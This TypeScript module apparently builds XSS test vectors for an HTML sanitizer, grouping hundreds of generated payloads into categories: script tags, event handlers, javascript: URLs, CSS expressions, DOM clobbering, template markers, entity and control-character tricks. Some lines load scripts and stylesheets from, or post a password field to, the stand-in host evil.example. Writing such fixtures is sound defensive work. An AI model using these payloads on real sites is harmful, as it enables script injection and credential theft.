import { controlAddresses, entityAddresses, rawAddresses } from './addresses.js';
import { comments, foreign, mutations, nested } from './parsers.js';
import { pairs, payloads, quoted, run, words } from './vectors.js';

const scripts = [
  ...pairs(
    ['script', 'SCRIPT', 'ScRiPt', 'svg:script', 'x:script'],
    [
      (name: string) => `<${name}>${run}</${name}>`,
      (name: string) => `<${name}\n>${run}</${name} >`,
      (name: string) => `<${name}/x>${run}</${name}/x>`,
      (name: string) => `<${name} src=//evil.example/x.js></${name}>`,
      (name: string) => `<${name} type=module>${run}`,
      (name: string) => `<p>a<${name}>${run}</p>`,
      (name: string) => `<<${name}>${run}//<</${name}>`,
      (name: string) => `<${name[0]}<${name}>${name.slice(1)}>${run}</${name[0]}</${name}>${name.slice(1)}>`,
      (name: string) => `<${name} ${run}`,
      (name: string) => `</${name}><${name}>${run}</${name}>`,
      (name: string) => `<${name}><!--${run}--></${name}>`,
      (name: string) => `<${name}><!--<${name}>${run}</${name}>--></${name}>`,
    ],
    (name, write) => write(name),
  ),
  '<script\u0000>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u0000<script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
];

const events = words(
  'onclick onerror onload onfocus onblur onmouseover onanimationstart ontransitionend ontoggle onpointerenter onbegin ' +
    'onwheel oncut onhashchange onscrollend onbeforetoggle oncontentvisibilityautostatechange ONCLICK OnErRoR on onx',
);
const carriers = '<p |<b |<a href=/x |<td |<img src=x |<svg |<details open |<input autofocus |<x-a '.split('|');
const handlers = [
  ...pairs(carriers, events, (tag, event) => `${tag}${event}=${run}>a`),
  ...pairs(
    ['<p ', '<img src=x '],
    [
      `onclick\n=\n"${run}"`,
      `onclick='${run}'`,
      `/onclick=${run}`,
      `"onclick=${run}`,
      `title=""onclick=${run}`,
      `title="a"onclick=${run} x="`,
      `\u000conclick=${run}`,
      `\u00a0onclick=${run}`,
      `\u0000onclick=${run}`,
      `on\u0000click=${run}`,
      `x=">" onclick=${run}`,
      `x='">' onclick=${run}`,
      `title="&quot;&gt;<img src=x onerror=${run}>"`,
      `onclick=&#97;lert(1)`,
      `onclick=${run} onclick=1`,
      `data-x="</p><img src=x onerror=${run}>"`,
      `xmlns:on=x on:click=${run}`,
    ],
    (tag, attribute) => `${tag}${attribute}>a`,
  ),
];

const addressed: readonly (readonly [tag: string, attribute: string])[] = [
  ...words('a area base link').map((tag) => [tag, 'href'] as const),
  ...words('img iframe embed script source track video audio frame input').map((tag) => [tag, 'src'] as const),
  ...words('blockquote q del ins').map((tag) => [tag, 'cite'] as const),
  ...words('a svg image use').map((tag) => [tag, 'xlink:href'] as const),
  ...words('form button').map((tag) => [tag, tag === 'form' ? 'action' : 'formaction'] as const),
  ...(
    'object data|body background|table background|td background|video poster|a ping|img srcset|img lowsrc|img dynsrc|' +
    'img longdesc|img usemap|html manifest|applet codebase|head profile|p src|p href|p lang|td headers|time datetime|' +
    'ol start|a rel|a target'
  )
    .split('|')
    .map((pair) => pair.split(' ') as [string, string]),
];
const someAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
];
const urls = [
  ...pairs(
    addressed,
    someAddresses,
    ([tag, attribute], address) => `<${tag} ${attribute}=${quoted(address)}>a</${tag}>`,
  ),
  ...pairs(['a', 'q'], [...rawAddresses, ...entityAddresses], (tag, address) => {
    return `<${tag} ${tag === 'a' ? 'href' : 'cite'}=${quoted(address)}>a</${tag}>`;
  }),
  ...rawAddresses.map((address) => `<a href='${address}'>a</a>`),
  '<a href=javascript:alert(1)>a</a>',
  '<a href=`javascript:alert(1)`>a</a>',
  '<a href="/x" href="javascript:alert(1)">a</a>',
  '<a href="/x" target=_blank rel=opener>a</a>',
  '<p <a href=/y target=_blank rel=opener>a</p>',
  '<p target=_blank rel=opener>a</p>',
  '<a href="/x" target="_blank" rel="OPENER opener">a</a>',
  '<a href="/x" target=evil>a</a>',
  '<area href=/x target=_blank>',
];

const documents = [
  ...pairs(words('iframe object embed frame portal'), payloads, (tag, payload) => {
    return `<${tag} srcdoc=${quoted(payload)} data=${quoted(`data:text/html,${payload}`)}></${tag}>`;
  }),
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta charset=utf-7>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example/x.html>',
  '<html onload=alert(1)><head><title>x</title></head><body onload=alert(1) id=x>a</body></html>',
  '<body onload=alert(1)>a',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<form action=//evil.example><input name=password type=password><button>a</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<portal src=//evil.example></portal>',
];

const clobbering = pairs(
  words('a p img form input iframe object b td'),
  words(
    'id=attributes name=nodes id=__proto__ name=constructor id=document name=cookie id=getElementById name=body ' +
      'id=defaultView form=x for=x itemprop=x slot=x part=x is=x-y id=x&#0;',
  ),
  (tag, attribute) => `<${tag} ${attribute}>a</${tag}>`,
);

const declarations = [
  'color:red',
  'background:url(javascript:alert(1))',
  'background:url("data:text/html,x")',
  'width:expression(alert(1))',
  'width:exp/**/ression(alert(1))',
  '-moz-binding:url(//evil.example/x.xml#x)',
  'behavior:url(x.htc)',
  'position:fixed;inset:0',
  '@import "//evil.example/x.css"',
  'b\\61ckground:\\75rl(//evil.example)',
  '}</style><script>alert(1)</script>',
  'x:&quot;&gt;<img src=x onerror=alert(1)>',
];
const css = [
  ...pairs(words('p b a td div span'), declarations, (tag, text) => `<${tag} style=${quoted(text)}>a</${tag}>`),
  ...pairs(
    ['<style>', '<STYLE type=text/css>', '<svg><style>', '<p class=x><style media=all>'],
    declarations,
    (open, text) => `${open}p{${text}}</style>a`,
  ),
  '<p class=fixed bgcolor=red background=x align=center width=9999 hidden>a</p>',
  '<font color=red face=x>a</font><center>b</center>',
];

const markers = pairs(
  ['{{constructor.constructor("alert(1)")()}}', '$'.concat('{alert(1)}')].concat(
    '<%= x %>|#{x}|{% include x %}|[[x]]|@{x}|<?= x ?>'.split('|'),
  ),
  [
    (marker: string) => `<p>${marker}</p>`,
    (marker: string) => `<a title=${quoted(marker)}>a</a>`,
    (marker: string) => `<a href=${quoted(marker)}>a</a>`,
    (marker: string) =>
      `<p v-html=${quoted(marker)} ng-bind=${quoted(marker)} x-data=${quoted(marker)} @click=${quoted(marker)}>a</p>`,
    (marker: string) => `${marker}<b>`,
    (marker: string) => `<p ${marker}>a</p>`,
  ],
  (marker, write) => write(marker),
);

const characters = words(
  '&lt &lt; &LT; &#60; &#060 &#x3c; &#x00003C; &#X3C &nvlt; &amp;lt; &#38;#60; &#0; &#x80; &#xd800; &#1114112;',
);
const entities = [
  ...characters.map((lt) => `${lt}script>alert(1)${lt}/script>`),
  ...characters.map((lt) => `<p title="${lt}img src=x onerror=alert(1)>">a</p>`),
  ...characters.map((lt) => `<b>${lt}</b><i>${lt}i onclick=alert(1)>`),
  '&notit; &ampamp; &#xfffffffff; &; &#; &#x; &unknown;',
];

/** Refused in JSON; YAML and what git brings may hold them. */
const controls = [
  ...controlAddresses.map((address) => `<a href=${quoted(address)}>a</a>`),
  ...pairs(
    [...'\u0000\u0001\u0008\u000b\u000c\u000e\u001b\u007f\u0085\u009b\u2028\ufffe'],
    [
      (c: string) => `<${c}script>alert(1)</script>`,
      (c: string) => `<script${c}>alert(1)</script>`,
      (c: string) => `<img${c}src=x${c}onerror=alert(1)>`,
      (c: string) => `<p on${c}click=alert(1)>a</p>`,
      (c: string) => `<p title="a${c}b">a${c}b</p>`,
      (c: string) => `<svg${c}><style>${c}</style><img src=x onerror=alert(1)>`,
    ],
    (c, write) => write(c),
  ),
];

const broken = [
  ...pairs(
    `<p|<p |<p a|<p a=|<p a="|<p a='|</|</p|<|<!|<!-|<!--|<?|<a href="javascript:1|&|&#`.split('|'),
    ['', '>', '"', "'", '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '-->', '/>'],
    (start, rest) => `a${start}${rest}`,
  ),
  ...pairs(
    words('b i a p table tr td ul li div pre h1 span'),
    words('p b a td li table svg div option'),
    (outer, inner) => {
      return `<${outer}><${inner}></${outer}><img src=x onerror=alert(1)></${inner}><${inner} onclick=alert(1)>a`;
    },
  ),
  `${'<div>'.repeat(90)}<img src=x onerror=alert(1)>`,
  `${'<b><p>'.repeat(40)}<script>alert(1)</script>`,
  '</p></div></body></html><img src=x onerror=alert(1)>',
];

/** Texts of our own that a browser would run something of, or take for something else, by the way they try it. */
export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
  scripts,
  'event handlers': handlers,
  addresses: urls,
  'SVG and MathML': foreign,
  mutations,
  'nested parsers': nested,
  'comments and declarations': comments,
  'documents of their own': documents,
  'DOM clobbering': clobbering,
  CSS: css,
  'template markers': markers,
  entities,
  'control characters': controls,
  'broken nesting': broken,
};
